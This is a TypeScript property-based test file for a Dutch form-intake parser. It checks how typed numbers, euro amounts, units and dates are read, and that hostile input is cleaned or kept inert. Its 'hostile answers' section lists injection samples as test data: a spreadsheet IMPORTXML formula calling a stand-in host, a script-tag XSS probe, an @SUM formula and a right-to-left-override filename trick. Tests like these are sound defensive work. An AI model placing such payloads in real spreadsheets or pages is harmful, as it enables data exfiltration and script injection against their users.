/** What people type in a form reads as what they mean, and what they should not send does no harm. */
import fc from 'fast-check';
import { questionById } from '../../../../src/register/domain/intake/forms.ts';
import { fittingProposal, type Proposal } from '../../../../src/register/domain/intake/proposal.ts';
import { harmless, readLoosely } from '../../../../src/register/domain/intake/reading.ts';
import { shortened, understand } from '../../../../src/register/domain/intake/understand.ts';
import { CODES } from '../../../../src/register/domain/schema/codelists.ts';
import { tableById } from '../../../../src/register/domain/schema/tables/index.ts';
import { formatDutchNumber } from '../../../../src/register/domain/text/numbers.ts';

function read(form: 'aanmelding' | 'opgave', id: string, typed: string): unknown {
  const { kind, target } = questionById(form, id)!;
  const table = { correctie: 'terrain', maatregel1: 'measure', activiteit1: 'activity' }[id.split('.')[0]!]!;
  const found = readLoosely(kind, typed, CODES, tableById(table).columns[target!.field]!.unit);
  return found.ok ? found.value : found.reason;
}

const area = (typed: string) => read('aanmelding', 'correctie.gross_area', typed);
const count = (typed: string) => read('aanmelding', 'correctie.company_count', typed);
const day = (typed: string) => read('aanmelding', 'correctie.company_count_date', typed);
const money = (typed: string) => read('opgave', 'maatregel1.investment', typed);
const power = (typed: string) => read('opgave', 'maatregel1.saving_kwh', typed);

describe('numbers', () => {
  test.each([
    ['12,5', 12.5],
    ['12.5', 12.5],
    ['12,50 ha', 12.5],
    ['12,5ha.', 12.5],
    ['ca. 12,5 hectare', 12.5],
    ['ongeveer 12 hectaren', 12],
    ['± 1.250,5', 1250.5],
    ['1 250,5', 1250.5],
    ['1,250.5', 1250.5],
    ['0', 0],
  ])('%s is so many hectares', (typed, value) => expect(area(typed)).toBe(value));

  test.each([
    '12 m2',
    '12 km',
    'twaalf',
    '12-14',
    '12/13',
    '1e3',
    '0x10',
    '12,5,3',
    'NaN',
    '-1',
    '99999',
    '12,345',
  ])('%s is no number of hectares', (typed) => expect(area(typed)).toEqual(expect.any(String)));

  test('a unit is read only where it is the one that was asked', () => {
    expect(power('1.200 kWh per jaar')).toBe(1200);
    expect(power('1.200 kWh/jaar')).toBe(1200);
    expect(power('1.200 MWh')).toEqual(expect.any(String));
    expect(count('ruim 120 bedrijven')).toBe(120);
    expect(count('120 hectare')).toEqual(expect.any(String));
    expect(count('12,5')).toBe('Dit is geen geheel getal.');
  });

  test.each([
    ['€ 1.000', 1000],
    ['1.000 euro', 1000],
    ['EUR 1000,-', 1000],
    ['€1.000,--', 1000],
    ['1000,50 €', 1000.5],
    ['1 000 000', 1_000_000],
  ])('%s is an amount', (typed, value) => expect(money(typed)).toBe(value));

  test('every number that we write ourselves is read back, with what people put around it', () => {
    const around = fc.constantFrom(
      ['', ''],
      ['', ' ha'],
      ['ca. ', ''],
      ['± ', ' hectare'],
      [' ', ' '],
      ['ongeveer ', 'ha'],
    );
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: 500_000 }),
        around,
        fc.boolean(),
        (cents, [before, after], spaces) => {
          const written = formatDutchNumber(cents / 100, 2);
          const typed = spaces ? written.replace(/\./g, ' ') : written;
          expect(area(`${before}${typed}${after}`)).toBe(cents / 100);
        },
      ),
    );
  });
});

describe('days', () => {
  test.each([
    '1-3-2026',
    '01/03/2026',
    '1.3.26',
    '2026-03-01',
    '1 maart 2026',
    '1e maart 2026',
    "1 mrt. '26",
    'zondag 1 maart 2026',
    '1 maart, 2026',
    '01 03 2026',
    '01032026',
    '20260301',
    '1maart2026',
    '1 - 3 - 2026',
    'sinds 1 maart 2026',
    '2026-03-01T10:00',
  ])('%s is the first of March', (typed) => expect(day(typed)).toBe('2026-03-01'));

  test.each([
    'maart 2026',
    '31-2-2026',
    '2026',
    '1-13-2026',
    'gisteren',
    '99999999',
    '1 maart of 2 maart 2026',
  ])('%s is no day', (typed) => expect(day(typed)).toEqual(expect.stringContaining('is geen datum')));
});

describe('hostile answers', () => {
  test.each([
    ['control characters', 'a\u0000b\u0007c\u009fd', 'abcd'],
    ['marks that turn the reading around', 'abc\u202etxt.exe\u2066', 'abctxt.exe'],
    ['halves of characters', 'a\ud83db\ude00c', 'abc'],
    ['line ends', 'a\r\nb\rc\td', 'a\nb\nc\td'],
  ])('%s go', (_what, typed, clean) => expect(harmless(typed)).toBe(clean));

  test.each([
    '=IMPORTXML("http://kwaad.example")',
    '<script>alert(1)</script>',
    '🏭🔋',
    "'t Lochter",
    '+31 38',
    '@SUM(1)',
  ])('%s stays as it was typed', (typed) => expect(harmless(typed)).toBe(typed));

  const wild = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 400 }),
    fc.constantFrom(
      '=1+1',
      '"'.repeat(30_000),
      '\\'.repeat(30_000),
      '🏭'.repeat(15_000),
      '<b>'.repeat(10_000),
      '\n'.repeat(30_000),
    ),
    fc.array(fc.string({ unit: 'binary', maxLength: 40 }), { maxLength: 5 }),
  );
  const ids = {
    aanmelding: [
      'indiener.naam',
      'indiener.email',
      'gemeente',
      'terrein',
      'onderwerp',
      'nieuw.display_name',
      'nieuw.gross_area',
      'correctie.aliases',
      'correctie.company_count_date',
      'vraag.tekst',
      'opmerkingen',
      'kandidaat.themes',
    ],
    opgave: [
      'indiener.email',
      'gemeente',
      'cluster',
      'cluster.naam',
      'organisatie.fact_group',
      'organisatie.evidence_url',
      'activiteit1.summary',
      'maatregel1.title',
      'maatregel1.saving_kwh',
      'contact1.name',
      'contact1.email',
      'nodig',
      'opmerkingen',
    ],
  } as const;

  test('whatever is sent is understood without a fault, fits in a cell and in the journal, and shows nothing about people', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('aanmelding', 'opgave'),
        fc.infiniteStream(wild),
        fc.constantFrom('Een nieuw terrein aanmelden', 'Gegevens van een terrein verbeteren', '???'),
        (form, stream, subject) => {
          const values: Record<string, string | readonly string[]> = {};
          for (const id of ids[form]) values[id] = stream.next().value;
          if (form === 'aanmelding') values.onderwerp = subject;
          const said = understand(
            { form, responseId: 'r', at: '2026-11-23T09:00:00', email: '', values },
            CODES,
          );
          expect(JSON.stringify(said.message ?? '').length).toBeLessThan(40_000);
          for (const one of said.values) expect(one.value.length).toBeLessThanOrEqual(2000);
          expect(said.values.filter(({ row }) => row.startsWith('contact'))).toEqual([]);
          const proposal: Proposal = {
            print: said.print,
            edits: 0,
            about: null,
            keys: said.keys,
            people: said.people.map(({ row }) => row),
            unread: said.unread,
            notes: [],
            fields: said.values.map((one) => ({
              ...one,
              id: `${one.row}.${one.field}`,
              table: 'measure',
              key: null,
              old: '',
              new: one.value,
              goesWith: null,
            })),
          };
          expect(JSON.stringify(JSON.stringify(fittingProposal(proposal))).length).toBeLessThan(40_000);
        },
      ),
      { numRuns: 30 },
    );
  });

  test('a text is shortened without cutting a character in two', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 200 }),
        fc.integer({ min: 20, max: 100 }),
        (text, most) => {
          const short = shortened(harmless(text), most);
          expect(short.length).toBeLessThanOrEqual(Math.max(most, 14));
          expect(short).toBe(harmless(short));
        },
      ),
    );
  });
});
